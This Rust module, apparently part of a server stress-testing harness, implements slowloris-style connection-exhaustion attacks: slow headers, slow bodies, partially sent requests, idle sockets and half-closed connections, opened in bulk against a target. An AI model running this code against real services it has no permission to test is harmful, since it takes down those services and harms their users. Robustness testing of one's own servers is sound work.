//! Attacks that hold connections open and send next to nothing on them.

use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::time::Duration;

use super::{Field, mark_of, pause, plain_body};
use crate::target::Target;

/// Between two bytes of a slow client.
const DRIP: Duration = Duration::from_millis(250);

/// Connections are opened at about 2,000 a second, so many at a time.
const PER_PAUSE: usize = 10;
/// See [`PER_PAUSE`].
const OPENING_PAUSE: Duration = Duration::from_millis(5);

/// Length announced by the bodies of which half is sent, in bytes.
const HALF_BODY_BYTES: usize = 1 << 20;

/// What is sent of a head that does not come whole, in bytes.
const HALF_HEAD_BYTES: usize = 60_000;

/// A connection that is held.
struct Held {
    stream: TcpStream,
    /// What is still to be sent at once.
    pending: Vec<u8>,
    received: Vec<u8>,
    ended: bool,
    shut: bool,
}

/// How the connections of one attack behave.
struct Manner<'m> {
    count: usize,
    first: &'m dyn Fn(usize) -> Vec<u8>,
    /// Sent every [`DRIP`] once the first bytes are gone.
    drop: &'m [u8],
    /// End the sending side after the first bytes.
    half_close: bool,
}

pub(super) fn slow_heads(field: &Field<'_>) {
    let Target { host, path, .. } = field.target();
    let head = format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nX-Slow: ");
    let first = |_| head.clone().into_bytes();
    hold(field, &Manner::dripping(field.count(500), &first, b"a"));
}

pub(super) fn slow_bodies(field: &Field<'_>) {
    let head = head_of(field, 1000);
    let first = |_| head.clone();
    hold(field, &Manner::dripping(field.count(500), &first, b" "));
}

pub(super) fn half_heads(field: &Field<'_>) {
    let Target { host, path, .. } = field.target();
    let filler = "a".repeat(HALF_HEAD_BYTES);
    let bytes = format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nX-Half: {filler}");
    let first = |_| bytes.clone().into_bytes();
    hold(field, &Manner::dripping(field.count(1000), &first, b""));
}

pub(super) fn half_bodies(field: &Field<'_>) {
    let mut bytes = head_of(field, HALF_BODY_BYTES);
    bytes.resize(bytes.len() + HALF_BODY_BYTES / 2, b'x');
    let first = |_| bytes.clone();
    hold(field, &Manner::dripping(field.count(1000), &first, b""));
}

pub(super) fn idle(field: &Field<'_>) {
    let first = |_| Vec::new();
    hold(field, &Manner::dripping(field.count(5000), &first, b""));
}

pub(super) fn half_closed(field: &Field<'_>) {
    let first = |number: usize| {
        let nonce = format!("half-closed-{number}");
        let whole = field.plain_request(&nonce);
        let length = match number % 3 {
            0 => {
                let body = plain_body(&nonce);
                field.mark(&[mark_of(&field.target().path, body.as_bytes())]);
                whole.len()
            }
            1 => whole.len() - 10,
            _ => 40,
        };
        whole[..length].to_vec()
    };
    let manner = Manner {
        half_close: true,
        ..Manner::dripping(field.count(900), &first, b"")
    };
    hold(field, &manner);
}

fn head_of(field: &Field<'_>, body_bytes: usize) -> Vec<u8> {
    let Target { host, path, .. } = field.target();
    format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n\
         Content-Length: {body_bytes}\r\n\r\n{{\"model\":\"stub-model\",\"nonce\":\"never\",\"x\":\""
    )
    .into_bytes()
}

impl<'m> Manner<'m> {
    fn dripping(count: usize, first: &'m dyn Fn(usize) -> Vec<u8>, drop: &'m [u8]) -> Self {
        Self {
            count,
            first,
            drop,
            half_close: false,
        }
    }
}

/// Opens the connections and keeps to the manner until the time is up or all have ended.
fn hold(field: &Field<'_>, manner: &Manner<'_>) {
    let mut held = Vec::with_capacity(manner.count);
    for number in 0..manner.count {
        if field.is_over() {
            break;
        }
        if number % PER_PAUSE == 0 {
            pause(OPENING_PAUSE);
        }
        let Some(stream) = field.connect() else {
            continue;
        };
        let _ = stream.set_nonblocking(true);
        field.note(|tally| tally.sent += 1);
        let pending = (manner.first)(number);
        let mut one = Held {
            stream,
            pending,
            received: Vec::new(),
            ended: false,
            shut: false,
        };
        one.turn(field, manner.half_close);
        held.push(one);
    }
    while !field.is_over() && held.iter().any(|one| !one.ended) {
        pause(DRIP);
        for one in held.iter_mut().filter(|one| !one.ended) {
            if one.pending.is_empty() && !one.shut {
                one.pending.extend_from_slice(manner.drop);
            }
            one.turn(field, manner.half_close);
        }
    }
    for one in held {
        field.note(|tally| tally.end(&one.received, one.ended));
    }
}

impl Held {
    fn turn(&mut self, field: &Field<'_>, half_close: bool) {
        while !self.pending.is_empty() {
            match self.stream.write(&self.pending) {
                Ok(count) => {
                    self.pending.drain(..count);
                    field.note(|tally| tally.bytes += count as u64);
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(_) => {
                    self.ended = true;
                    break;
                }
            }
        }
        if half_close && self.pending.is_empty() && !self.shut {
            let _ = self.stream.shutdown(Shutdown::Write);
            self.shut = true;
        }
        let mut piece = [0; 1024];
        loop {
            match self.stream.read(&mut piece) {
                Ok(0) => self.ended = true,
                Ok(count) => {
                    self.received.extend_from_slice(&piece[..count]);
                    continue;
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => self.ended = true,
            }
            return;
        }
    }
}
